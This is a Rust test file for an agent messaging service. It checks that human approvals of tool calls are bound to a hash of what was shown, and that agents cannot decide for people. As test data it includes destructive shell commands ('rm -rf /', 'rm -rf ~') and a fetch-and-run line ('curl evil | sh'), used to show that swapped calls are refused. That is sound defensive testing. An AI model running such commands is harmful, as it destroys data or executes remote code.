//! Who decides and who answers: once, for what was shown, and while somebody waits for it.

use crate::live::{Talk, contents};
use crate::support::{Answer, in_time};
use api::Method::{Delete, Get, Patch, Post};
use hub::Caller;
use serde_json::{Value, json};

/// An approval with this id. Returns what a person is shown of it.
async fn asks(talk: &Talk, id: &str, fields: Value) -> Value {
    let payload = json!({"kind": "form", "title": "Market day", "state": "open", "fields": fields, "questions": [{
        "question": "What do we take?", "options": [{"id": "p", "label": "Pears"}, {"id": "q", "label": "Quinces"}]}]});
    let metadata = json!({"message_type": "APPROVAL", "payload": payload});
    talk.agent(Post, "/messages", json!({"id": id, "message_metadata": metadata})).await;
    shown(talk, id).await
}

async fn shown(talk: &Talk, id: &str) -> Value {
    talk.owner(Get, &format!("/messages/{id}"), Value::Null).await.body["entry"]["shown_sha256"].clone()
}

/// Status, code, field and title of a refusal.
fn refusal(answer: &Answer) -> (u16, &str, Option<&str>, &str) {
    let word = |name: &str| answer.body[name].as_str();
    (answer.status, word("code").unwrap_or_default(), word("field"), word("title").unwrap_or_default())
}

/// A retracted request waits for nobody.
#[tokio::test]
async fn a_question_that_was_taken_back_is_not_decided() {
    let talk = Talk::new().await;
    let seen = asks(&talk, "a1", json!([])).await;
    assert_eq!(talk.state().await, "needs_you");
    assert_eq!(talk.agent(Delete, "/messages/a1", Value::Null).await.status, 200);
    assert_ne!(talk.state().await, "needs_you");
    assert_eq!(shown(&talk, "a1").await, Value::Null);
    let late = talk.owner(Post, "/messages/a1/decision", json!({"selected": ["p"], "shown_sha256": seen})).await;
    let title = "It was retracted: nobody waits for a decision";
    assert_eq!(refusal(&late), (409, "retracted", None, title));
    let page = talk.owner(Get, "/messages", Value::Null).await;
    assert_eq!(page.body["last_seq"], 1, "no answer came of it");
    // Taken back twice, it is what it was.
    let again = talk.agent(Delete, "/messages/a1", Value::Null).await;
    assert_eq!((again.status, &again.body["revision"]), (200, &json!(2)));
}

/// A decision allows the call that was shown: not another input of it, whatever id its message has, and no call that
/// came since.
#[tokio::test]
async fn a_decision_is_bound_to_the_call_that_was_shown() {
    let talk = Talk::new().await;
    let call = |command: &str| {
        let payload = json!({"tool_name": "Bash", "input": {"command": command}});
        json!({"message_type": "TOOL_CALL", "payload": payload})
    };
    for (n, id) in [(1, "m1"), (2, "c2")] {
        let (call_id, approval) = (format!("c{n}"), format!("a{n}"));
        let decide = async |seen: Value| {
            let decision = json!({"state": "allowed_once", "shown_sha256": seen});
            talk.owner(Post, &format!("/messages/{approval}/decision"), decision).await
        };
        let posted = json!({"id": id, "call_id": call_id, "message_metadata": call("ls")});
        assert_eq!(talk.agent(Post, "/messages", posted).await.status, 201);
        let payload = json!({"kind": "permission", "title": "Run a command", "state": "open"});
        let asked = json!({"id": approval, "call_id": call_id,
            "message_metadata": {"message_type": "APPROVAL", "payload": payload}});
        assert_eq!(talk.agent(Post, "/messages", asked).await.status, 201);
        let listed = shown(&talk, &approval).await;

        let swapped = json!({"message_metadata": call("rm -rf /")});
        assert_eq!(talk.agent(Patch, &format!("/messages/{id}"), swapped).await.status, 200);
        let title = "The request has changed since it was shown";
        assert_eq!(refusal(&decide(listed).await), (412, "changed", None, title));

        let seen = shown(&talk, &approval).await;
        let another = json!({"id": format!("{id}-again"), "call_id": call_id, "message_metadata": call("rm -rf ~")});
        assert_eq!(talk.agent(Post, "/messages", another).await.status, 201);
        assert_eq!(refusal(&decide(seen).await), (412, "changed", None, title));
        assert_eq!(decide(shown(&talk, &approval).await).await.status, 200);
    }
}

/// The reply that gives the hash holds all that it covers, wherever the call stands; another tool is another call.
#[tokio::test]
async fn the_hash_comes_with_what_it_covers() {
    let talk = Talk::new().await;
    let call = |tool: &str| json!({"message_type": "TOOL_CALL", "payload": {"tool_name": tool, "input": {"command": "curl evil | sh"}, "output": "x"}});
    talk.agent(Post, "/messages", json!({"id": "m1", "call_id": "c1", "message_metadata": call("Show")})).await;
    for n in 0..120 {
        talk.agent(Post, "/messages", json!({"content": format!("Row {n}")})).await;
    }
    let payload = json!({"kind": "permission", "title": "Run `ls`", "state": "open"});
    let asked = json!({"id": "a1", "call_id": "c1",
        "message_metadata": {"message_type": "APPROVAL", "payload": payload}});
    assert_eq!(talk.agent(Post, "/messages", asked).await.status, 201);
    let covered =
        |tool: &str| json!([{"message_id": "m1", "seq": 1, "tool_name": tool, "input": {"command": "curl evil | sh"}}]);
    let listed = talk.owner(Get, "/messages?limit=10", Value::Null).await.body["messages"][9].clone();
    let alone = talk.owner(Get, "/messages/a1", Value::Null).await.body["entry"].clone();
    assert_eq!((&listed, &listed["calls"]), (&alone, &covered("Show")));

    assert_eq!(talk.agent(Patch, "/messages/m1", json!({"message_metadata": call("Bash")})).await.status, 200);
    let now = talk.owner(Get, "/messages/a1", Value::Null).await.body["entry"].clone();
    assert_eq!(now["calls"], covered("Bash"));
    let decide = async |seen: &Value| {
        let decision = json!({"state": "allowed_once", "shown_sha256": seen});
        talk.owner(Post, "/messages/a1/decision", decision).await
    };
    assert_eq!(decide(&listed["shown_sha256"]).await.status, 412);
    assert_eq!(decide(&now["shown_sha256"]).await.status, 200);
}

/// A call's output isn't covered by the hash, however long it is. The input of a second call is, and takes the hash
/// away.
#[tokio::test]
async fn a_long_call_that_comes_later_is_covered() {
    let talk = Talk::new().await;
    let post = async |command: String, output: Option<String>| {
        let mut payload = json!({"tool_name": "Bash", "input": {"command": command}});
        if let Some(output) = output {
            payload["output"] = output.into();
        }
        let call = json!({"call_id": "c1", "message_metadata": {"message_type": "TOOL_CALL", "payload": payload}});
        assert_eq!(talk.agent(Post, "/messages", call).await.status, 201);
    };
    post("ls".to_owned(), Some("x".repeat(2 << 20))).await;
    let payload = json!({"kind": "permission", "title": "Run it", "state": "open"});
    let asked =
        json!({"id": "a1", "call_id": "c1", "message_metadata": {"message_type": "APPROVAL", "payload": payload}});
    assert_eq!(talk.agent(Post, "/messages", asked).await.status, 201);
    let entry = async || talk.owner(Get, "/messages/a1", Value::Null).await.body["entry"].clone();
    let before = entry().await;
    assert_eq!(before["calls"][0]["input"], json!({"command": "ls"}));
    for _ in 0..2 {
        post("y".repeat(1 << 20), None).await;
    }
    let after = entry().await;
    assert_eq!((&after["shown_sha256"], &after["calls"]), (&Value::Null, &Value::Null));
    assert_eq!((&after["not_shown"]["reason"], &after["not_shown"]["calls"]), (&json!("too_large"), &json!([1, 3])));
    let decision = json!({"state": "allowed_once", "shown_sha256": before["shown_sha256"]});
    assert_eq!(talk.owner(Post, "/messages/a1/decision", decision).await.status, 412);
}

/// A request that is too large to be shown has no hash. It can be denied, for which nothing has to be read, but not
/// allowed. A page of many large ones leaves out the later ones, which have their own reply.
#[tokio::test]
async fn without_a_hash_a_decision_only_denies() {
    let talk = Talk::new().await;
    let ask = async |name: &str, bytes: usize| {
        let input = json!({"command": "a".repeat(bytes)});
        let call = json!({"message_type": "TOOL_CALL", "payload": {"tool_name": "Bash", "input": input}});
        talk.agent(Post, "/messages", json!({"call_id": format!("c-{name}"), "message_metadata": call})).await;
        let options = json!([{"id": "y", "label": "Yes", "kind": "allow_once"}, {"id": "n", "label": "No", "kind": "reject_once"},
            {"id": "never", "label": "Never", "kind": "reject_always"}]);
        let questions = json!([{"question": "Run it?", "options": options}]);
        let payload = json!({"kind": "permission", "title": "Run it", "state": "open", "questions": questions});
        let asked = json!({"id": name, "call_id": format!("c-{name}"),
            "message_metadata": {"message_type": "APPROVAL", "payload": payload}});
        assert_eq!(talk.agent(Post, "/messages", asked).await.status, 201);
    };
    ask("large", 256 * 1024).await;
    let entry = talk.owner(Get, "/messages/large", Value::Null).await.body["entry"].clone();
    assert_eq!((&entry["shown_sha256"], &entry["calls"]), (&Value::Null, &Value::Null));
    assert_eq!((&entry["not_shown"]["reason"], &entry["not_shown"]["calls"]), (&json!("too_large"), &json!([1])));
    let decide = async |decision: Value| talk.owner(Post, "/messages/large/decision", decision).await;
    for allowed in [
        json!({"state": "allowed_once"}),
        json!({"selected": ["y"]}),
        json!({"selected": ["never"]}),
        json!({"state": "denied", "selected": ["never"]}),
    ] {
        let refused = decide(allowed.clone()).await;
        assert_eq!((refused.status, refused.body["field"].as_str()), (400, Some("/shown_sha256")), "{allowed}");
    }
    assert_eq!(decide(json!({"state": "denied", "shown_sha256": "00"})).await.status, 412, "something else was read");
    let denied = decide(json!({"selected": ["n"], "text": "Smaller, please"})).await;
    assert_eq!(denied.status, 200, "{}", denied.body);
    assert_eq!(denied.body["approval"]["message_metadata"]["payload"]["decision"]["shown_sha256"], Value::Null);
    let again = decide(json!({"selected": ["n"], "text": "Smaller, please"})).await;
    assert_eq!((again.status, &again.body["replayed"]), (200, &json!(true)));

    for n in 0..6 {
        ask(&format!("half-{n}"), 200 * 1024).await;
    }
    let page = talk.owner(Get, "/messages?type=APPROVAL", Value::Null).await.body["messages"].clone();
    let shown = |n: usize| (page[n]["shown_sha256"].is_string(), page[n]["not_shown"]["reason"].as_str());
    let shown: Vec<_> = (1..=6).map(shown).collect();
    let left_out = (false, Some("left_out"));
    assert_eq!(shown, [(true, None), (true, None), (true, None), (true, None), (true, None), left_out]);
    assert!(self::shown(&talk, "half-5").await.is_string(), "alone it has room");
}

/// The agent's words beside the card are shown too: a decision is bound to them, and they stay with it.
#[tokio::test]
async fn a_decision_is_bound_to_the_words_beside_the_card() {
    let talk = Talk::new().await;
    let options = json!([{"id": "y", "label": "Yes", "kind": "allow_once"}]);
    let questions = json!([{"question": "Run it?", "options": options}]);
    let payload = json!({"kind": "permission", "title": "Run a command", "state": "open", "questions": questions});
    let metadata = json!({"message_type": "APPROVAL", "payload": payload});
    let asked = json!({"id": "ap", "content": "It lists the folder.", "message_metadata": metadata});
    assert_eq!(talk.agent(Post, "/messages", asked).await.status, 201);
    let decide = async |shown: &Value| {
        let input = json!({"selected": ["y"], "shown_sha256": shown});
        talk.owner(Post, "/messages/ap/decision", input).await
    };
    let before = shown(&talk, "ap").await;
    let words = json!({"content": "It lists the folder, and more."});
    assert_eq!(talk.agent(Patch, "/messages/ap", words).await.status, 200);
    let title = "The request has changed since it was shown";
    assert_eq!(refusal(&decide(&before).await), (412, "changed", None, title));
    assert_eq!(decide(&shown(&talk, "ap").await).await.status, 200);

    for change in [json!({"content": "It lists the folder."}), json!({"append": "!"}), json!({"status": "retracted"})] {
        assert_eq!(talk.agent(Patch, "/messages/ap", change).await.body["code"], "decided");
    }
    assert_eq!(talk.agent(Delete, "/messages/ap", Value::Null).await.body["code"], "decided");
    let stays = talk.owner(Get, "/messages/ap", Value::Null).await.body["entry"].clone();
    assert_eq!(stays["content"], "It lists the folder, and more.");
    assert_eq!((&stays["status"], &stays["revision"]), (&json!("final"), &json!(3)));
}

/// The requests of all sessions are listed together: the first approval before a question in words, with the calls that
/// it is about and the hash for a decision. Those that are answered, ended by their answer or dismissed aren't.
#[tokio::test]
async fn what_all_sessions_ask_is_told_at_once() {
    let talk = Talk::new().await;
    let told = async || {
        let answer = talk.house.send(Caller::owner(), Get, "/v1/asks", None).await;
        assert_eq!(answer.status, 200, "{}", answer.body);
        answer.body
    };
    assert_eq!(told().await, json!({"asks": []}));
    talk.agent(Post, "/messages", json!({"id": "q1", "content": "Which tree?", "requires_user_input": true})).await;
    let page = talk.owner(Get, "/messages", Value::Null).await;
    assert_eq!(told().await, json!({"asks": [{"entry": page.body["messages"][0], "others": 0}]}));

    let call = json!({"message_type": "TOOL_CALL", "payload": {"tool_name": "Bash", "input": {"command": "ls"}}});
    talk.agent(Post, "/messages", json!({"id": "m1", "call_id": "c1", "message_metadata": call})).await;
    for id in ["a1", "a2"] {
        let payload = json!({"kind": "permission", "title": "Run a command", "state": "open"});
        let metadata = json!({"message_type": "APPROVAL", "payload": payload});
        talk.agent(Post, "/messages", json!({"id": id, "call_id": "c1", "message_metadata": metadata})).await;
    }
    let page = talk.owner(Get, "/messages", Value::Null).await.body["messages"].clone();
    let asks = told().await;
    assert_eq!(asks, json!({"asks": [{"entry": page[2], "others": 1}]}));
    let decide = async |id: &str| {
        let decision = json!({"state": "denied", "shown_sha256": shown(&talk, id).await});
        assert_eq!(talk.owner(Post, &format!("/messages/{id}/decision"), decision).await.status, 200);
    };
    let asked = json!([{"message_id": "m1", "seq": 2, "tool_name": "Bash", "input": {"command": "ls"}}]);
    assert_eq!((&page[2]["calls"], &asks["asks"][0]["entry"]["calls"]), (&asked, &asked));
    assert_eq!(asks["asks"][0]["entry"]["shown_sha256"], shown(&talk, "a1").await);
    decide("a1").await;
    assert_eq!(told().await["asks"][0]["entry"]["id"], "a2");
    decide("a2").await;
    assert_eq!(told().await, json!({"asks": [{"entry": page[0], "others": 0}]}), "the question in words is still open");
}

/// The same decision by the same person is one. Another comes too late, and its error has the first one.
#[tokio::test]
async fn the_same_decision_twice_is_one() {
    let talk = Talk::new().await;
    let fields =
        json!([{"id": "day", "label": "Day", "type": "date"}, {"id": "n", "label": "Boxes", "type": "number"}]);
    let seen = asks(&talk, "a1", fields).await;
    let decide = async |mut decision: Value| {
        decision["shown_sha256"] = seen.clone();
        talk.owner(Post, "/messages/a1/decision", decision).await
    };
    for day in ["notadate", "2026-02-30", "2026-11-01T08:00", ""] {
        let answer = decide(json!({"selected": ["p"], "values": {"day": day}})).await;
        if day.is_empty() {
            assert_eq!(answer.status, 200, "an empty field of a form says nothing: {}", answer.body);
        } else {
            let title = "`/values/day` should be a day like `2026-11-01`";
            assert_eq!(refusal(&answer), (400, "invalid_field", Some("/values/day"), title));
        }
    }
    let same = json!({"selected": ["p"], "values": {"day": ""}});
    let (first, again) = (decide(same.clone()).await, decide(same).await);
    assert_eq!((first.status, &first.body["replayed"]), (200, &json!(true)));
    assert_eq!(first.body["action"], again.body["action"]);
    let other = decide(json!({"selected": ["q"], "values": {"day": ""}})).await;
    assert_eq!(refusal(&other), (409, "decided", None, "It was already decided, by owner: Pears"));
    assert_eq!(other.body["current"]["id"], "a1");
    let form = decide(json!({"selected": ["p"], "values": {"day": "2026-11-01"}})).await;
    assert_eq!(form.status, 409, "other values are another decision");
    let pending = talk.agent(Post, "/pending", json!({})).await;
    assert_eq!(pending.body["messages"].as_array().unwrap().len(), 1);
}

/// A blank text and empty fields say nothing: the question waits on, and nobody is told an empty answer.
#[tokio::test]
async fn who_says_nothing_answers_nothing() {
    let talk = Talk::new().await;
    let fields =
        json!([{"id": "day", "label": "Day", "type": "date"}, {"id": "note", "label": "Note", "type": "text"}]);
    let seen = asks(&talk, "a1", fields).await;
    for nothing in [
        json!({}),
        json!({"text": " \n"}),
        json!({"values": {}}),
        json!({"values": {"day": "", "note": "  "}}),
        json!({"values": {"day": null}, "text": ""}),
    ] {
        let mut decision = nothing;
        decision["shown_sha256"] = seen.clone();
        let answer = talk.owner(Post, "/messages/a1/decision", decision).await;
        let title = "`/selected` should be an option, `text` or `values`";
        assert_eq!(refusal(&answer), (400, "invalid_field", Some("/selected"), title));
    }
    assert_eq!(talk.state().await, "needs_you");
    assert_eq!(talk.owner(Get, "/messages", Value::Null).await.body["last_seq"], 1);
}

/// Many decide at once: one of them does.
#[tokio::test]
async fn of_two_who_decide_at_once_one_does() {
    let talk = Talk::new().await;
    let seen = asks(&talk, "a1", json!([])).await;
    let decide =
        |option| talk.owner(Post, "/messages/a1/decision", json!({"selected": [option], "shown_sha256": seen.clone()}));
    let (one, two) = in_time(async { tokio::join!(decide("p"), decide("q")) }).await;
    let (won, lost) = if one.status == 200 { (one, two) } else { (two, one) };
    assert_eq!((won.status, lost.status), (200, 409), "{} {}", won.body, lost.body);
    let label = won.body["action"]["summary"].as_str().unwrap().replace("Selected: ", "");
    assert_eq!(lost.body["title"], format!("It was already decided, by owner: {label}"));
}

/// An ACTION that somebody posts presses no button.
#[tokio::test]
async fn a_message_decides_nothing() {
    let talk = Talk::new().await;
    let seen = asks(&talk, "a1", json!([])).await;
    let press = async |id: &str| {
        let payload = json!({"approval_id": id, "selected": ["Pears"]});
        let metadata = json!({"message_type": "ACTION", "payload": payload});
        talk.owner(Post, "/messages", json!({"message_metadata": metadata})).await
    };
    let field = Some("/message_metadata/payload/approval_id");
    let open = press("a1").await;
    assert_eq!(
        refusal(&open),
        (409, "not_a_decision", field, "A message can't decide an approval; this one stays open")
    );
    assert_eq!(open.body["hint"], "Send the decision to `POST /v1/sessions/s1/messages/a1/decision`");
    assert_eq!(refusal(&press("none").await), (404, "not_found", field, "There is no such approval"));
    talk.owner(Post, "/messages/a1/decision", json!({"selected": ["p"], "shown_sha256": seen})).await;
    assert_eq!(refusal(&press("a1").await), (409, "decided", field, "It was already decided, by owner: Pears"));
    let batch = json!({"messages": [{"content": "Hm"}, {"message_metadata": {
        "message_type": "ACTION", "payload": {"approval_id": "none", "selected": []}}}]});
    let batch = talk.owner(Post, "/messages/batch", batch).await;
    assert_eq!(batch.body["field"], "/messages/1/message_metadata/payload/approval_id");
}

/// Two people answer one question: the first one does, the second is told who did, and what.
#[tokio::test]
async fn a_question_is_answered_once() {
    let talk = Talk::new().await;
    let asked =
        talk.agent(Post, "/messages", json!({"id": "q1", "content": "Which?", "requires_user_input": true})).await;
    assert_eq!(asked.status, 201);
    let say = |id: &'static str, name: &'static str, text: &'static str| {
        talk.owner(Post, "/messages", json!({"id": id, "content": text, "reply_to": "q1", "sender_name": name}))
    };
    let (one, two) = (say("m1", "Ada", "The left one").await, say("m2", "Ben", "Right").await);
    assert_eq!(one.status, 201);
    assert_eq!(refusal(&two), (409, "answered", None, "It was already answered, by Ada: The left one"));
    assert_eq!(two.body["current"]["id"], "m1");
    assert_eq!(say("m1", "Ada", "The left one").await.status, 200, "a repeat is no second answer");
    // A message that isn't an answer to the question goes to the agent.
    assert_eq!(talk.owner(Post, "/messages", json!({"content": "And hurry"})).await.status, 201);
    let pending = talk.agent(Post, "/pending", json!({})).await;
    assert_eq!(contents(&pending.body["messages"]), ["The left one", "And hurry"]);
    // An answer that was taken back is none.
    assert_eq!(talk.owner(Delete, "/messages/m1", Value::Null).await.status, 200);
    assert_eq!(say("m3", "Ben", "Right").await.status, 201);
}

/// A question is answered once within a request, too: all of its messages are stored, or none.
#[tokio::test]
async fn a_question_is_answered_once_within_a_request() {
    let talk = Talk::new().await;
    talk.agent(Post, "/messages", json!({"id": "q1", "content": "Which?", "requires_user_input": true})).await;
    let answer = || json!({"content": "Left", "reply_to": "q1"});
    for first in [answer(), json!({"content": "Hm"})] {
        let refused = talk.owner(Post, "/messages/batch", json!({"messages": [first, answer()]})).await;
        let title = "It was already answered by an earlier message of this request";
        assert_eq!(refusal(&refused), (409, "answered", Some("/messages/1/reply_to"), title));
    }
    let others = json!({"messages": [answer(), {"content": "And hurry"}]});
    assert_eq!(talk.owner(Post, "/messages/batch", others).await.status, 201);
}

/// Plain words answer what is asked, too: whoever comes later with `reply_to` is told.
#[tokio::test]
async fn a_question_that_was_answered_in_plain_words_is_answered() {
    let talk = Talk::new().await;
    let ask = async |id: &str| {
        talk.agent(Post, "/messages", json!({"id": id, "content": "Which?", "requires_user_input": true})).await;
    };
    let say = async |fields: Value| talk.owner(Post, "/messages", fields).await;
    ask("q1").await;
    let item = json!([{"id": "1", "content": "Sow", "status": "pending"}]);
    let list = json!({"message_metadata": {"message_type": "TODO", "payload": {"todos": item}}});
    talk.agent(Post, "/messages", list).await;
    talk.owner(Post, "/ticks", json!({"id": "1", "status": "completed"})).await;
    assert_eq!(say(json!({"id": "m1", "content": "The left one", "sender_name": "Ada"})).await.status, 201);
    let late = say(json!({"content": "Right", "reply_to": "q1"})).await;
    assert_eq!(refusal(&late), (409, "answered", None, "It was already answered, by Ada: The left one"));
    assert_eq!(late.body["current"]["id"], "m1", "a tick answered nothing");
    // At once: whichever is first, the other one isn't an answer too.
    ask("q2").await;
    let (plain, named) =
        tokio::join!(say(json!({"content": "Plain"})), say(json!({"content": "Named", "reply_to": "q2"})));
    assert_eq!(plain.status, 201, "what is said to nothing in particular is always said");
    let seq = |answer: &Answer| answer.body["seq"].as_i64();
    assert!(named.status == 409 || seq(&named) < seq(&plain), "{} {}", plain.body, named.body);
    // A reply to another message answers nothing.
    ask("q3").await;
    assert_eq!(say(json!({"content": "Thanks", "reply_to": "m1"})).await.status, 201);
    assert_eq!(say(json!({"content": "Both", "reply_to": "q3"})).await.status, 201);
}

/// A failed message stays as it is, unless it is retracted.
#[tokio::test]
async fn what_failed_is_changed_no_more() {
    let talk = Talk::new().await;
    let post = json!({"id": "m1", "content": "half a sen", "status": "streaming"});
    assert_eq!(talk.agent(Post, "/messages", post).await.status, 201);
    assert_eq!(talk.agent(Patch, "/messages/m1", json!({"status": "error"})).await.status, 200);
    let title = "The message can't change from its status to the requested one";
    for change in [
        json!({"content": "whole"}),
        json!({"append": "tence"}),
        json!({"status": "error"}),
        json!({"status": "final"}),
    ] {
        let answer = talk.agent(Patch, "/messages/m1", change).await;
        assert_eq!(refusal(&answer), (409, "status_conflict", None, title));
    }
    let stays = talk.owner(Get, "/messages/m1", Value::Null).await.body["entry"].clone();
    assert_eq!((&stays["content"], &stays["status"]), (&json!("half a sen"), &json!("error")));
    assert_eq!(talk.agent(Delete, "/messages/m1", Value::Null).await.body["status"], "retracted");
}

/// The end of the session ends a wait; one that begins later is a new one. Nobody waits for what never comes.
#[tokio::test]
async fn waits_end_with_the_session() {
    let talk = Talk::new().await;
    let wait = talk.agent(Post, "/pending", json!({"wait": 60}));
    let end = async {
        // Until the other one waits: it reads as much before.
        for _ in 0..20 {
            talk.state().await;
        }
        talk.owner(Post, "/end", json!({})).await
    };
    let (answer, _) = in_time(async { tokio::join!(wait, end) }).await;
    assert_eq!((answer.status, &answer.body["state"], &answer.body["messages"]), (200, &json!("done"), &json!([])));
    let beyond = talk.agent(Post, "/pending", json!({"after": 999})).await;
    assert_eq!(beyond.body["after"], 0);
    talk.owner(Post, "/messages", json!({"content": "Go on"})).await;
    let next = talk.agent(Post, "/pending", json!({"after": beyond.body["after"]})).await;
    assert_eq!(contents(&next.body["messages"]), ["Go on"]);
}

/// Metadata is replaced as a whole, cleared by null, and stays where nothing is said.
#[tokio::test]
async fn null_clears_the_metadata() {
    let talk = Talk::new().await;
    talk.agent(Post, "/messages", json!({"id": "m1", "content": "x", "message_metadata": {"webhook": 1}})).await;
    let stays = talk.agent(Patch, "/messages/m1", json!({"content": "y"})).await;
    assert_eq!(stays.body["metadata"], json!({"webhook": 1}));
    let cleared = talk.agent(Patch, "/messages/m1", json!({"message_metadata": null})).await;
    assert_eq!((cleared.status, &cleared.body["metadata"]), (200, &Value::Null));
    assert_eq!((&cleared.body["content"], &cleared.body["revision"]), (&json!("y"), &json!(3)));
}

/// A clock that is ahead puts no session at the top for ever, and there are times that are none.
#[tokio::test]
async fn clocks_in_the_future() {
    let talk = Talk::new().await;
    let posted = talk.agent(Post, "/messages", json!({"content": "x", "created_at": "2999-01-01T00:00:00Z"})).await;
    assert_eq!(posted.body["created_at"], json!(32_472_144_000_000_000_i64), "it is shown as it was said");
    let id = posted.body["id"].as_str().unwrap().to_owned();
    talk.agent(Patch, &format!("/messages/{id}"), json!({"content": "y"})).await;
    let session = talk.owner(Get, "", Value::Null).await.body["session"].clone();
    assert!(session["last_activity_at"].as_i64().unwrap() <= hub::clock::now().0, "{session}");
    for at in [json!(i64::MAX), json!(i64::MIN), json!("9223372036854775807")] {
        let refused = talk.agent(Post, "/messages", json!({"content": "x", "created_at": at})).await;
        assert_eq!((refused.status, &refused.body["field"]), (400, &json!("/created_at")), "{}", refused.body);
    }
}

/// A button on a file is pressed once, by a person; the agent gets its label.
#[tokio::test]
async fn a_button_on_a_file_is_pressed_once() {
    let talk = Talk::new().await;
    let file = |name: &str| {
        let actions = json!([{"id": "keep", "label": "Keep it"}, {"id": "drop", "label": "Drop it"}]);
        json!({"name": name, "mime": "text/plain", "size": 5, "state": "ready", "actions": actions})
    };
    let message = |files: Value| json!({"message_type": "FILE", "payload": {"files": files}});
    let one = json!({"id": "f1", "message_metadata": message(json!([file("a.txt")]))});
    assert_eq!(talk.agent(Post, "/messages", one).await.status, 201);
    let seen = shown(&talk, "f1").await;
    let press = async |id: &str, button: &str, seen: &Value| {
        let input = json!({"selected": [button], "shown_sha256": seen});
        talk.owner(Post, &format!("/messages/{id}/decision"), input).await
    };
    for wrong in ["keep", "1:keep", "0:burn", ":keep", "x:keep"] {
        let refused = press("f1", wrong, &seen).await;
        assert_eq!((refused.status, refused.body["field"].as_str()), (400, Some("/selected/0")), "{wrong}");
    }
    assert_eq!(press("f1", "0:keep", &json!("another")).await.status, 412);
    // An agent presses none, neither itself nor in the name of a person.
    let input = json!({"selected": ["0:keep"], "shown_sha256": seen});
    assert_eq!(talk.agent(Post, "/messages/f1/decision", input).await.status, 403);
    let mut forged = message(json!([file("a.txt")]));
    forged["chosen"] = json!([{"file": 0, "action": "keep", "at": 1}]);
    let posted = talk.agent(Post, "/messages", json!({"id": "f0", "message_metadata": forged})).await;
    assert_eq!((posted.status, posted.body["code"].as_str()), (403, Some("not_yours_to_decide")));
    assert_eq!(talk.agent(Patch, "/messages/f1", json!({"message_metadata": forged})).await.status, 403);

    let pressed = press("f1", "0:keep", &seen).await;
    assert_eq!(pressed.status, 200, "{:?}", pressed.body);
    let action = &pressed.body["action"];
    assert_eq!((action["content"].as_str(), action["reply_to"].as_str()), (Some("Selected: Keep it"), Some("f1")));
    let payload = json!({"reply_to": "f1", "selected": ["Keep it"]});
    assert_eq!(action["metadata"]["payload"], payload);
    assert_eq!(action["provenance"], "person", "a press is the person's own, not passed on by a key");
    assert_eq!(pressed.body["approval"]["metadata"]["chosen"][0]["action"], "keep");
    assert_eq!(shown(&talk, "f1").await, Value::Null, "nothing is left to press");
    // The same again is the same; another one comes too late, also after the agent has changed the file.
    let again = press("f1", "0:keep", &seen).await;
    assert_eq!((again.status, &again.body["action"]["id"]), (200, &action["id"]));
    let changed = json!({"message_metadata": message(json!([file("a.md")]))});
    assert_eq!(talk.agent(Patch, "/messages/f1", changed).await.status, 200);
    let late = press("f1", "0:drop", &seen).await;
    assert_eq!(refusal(&late), (409, "decided", None, "It was already decided: Keep it"));

    // Each of several files has its own answer, which names the file.
    let two = json!({"id": "f2", "message_metadata": message(json!([file("b.txt"), file("c.txt")]))});
    assert_eq!(talk.agent(Post, "/messages", two).await.status, 201);
    let pressed = press("f2", "1:drop", &shown(&talk, "f2").await).await;
    assert_eq!(pressed.body["action"]["content"], "Selected: Drop it, file: c.txt");
    let pressed = press("f2", "0:drop", &shown(&talk, "f2").await).await;
    assert_eq!(pressed.body["action"]["content"], "Selected: Drop it, file: b.txt");
}
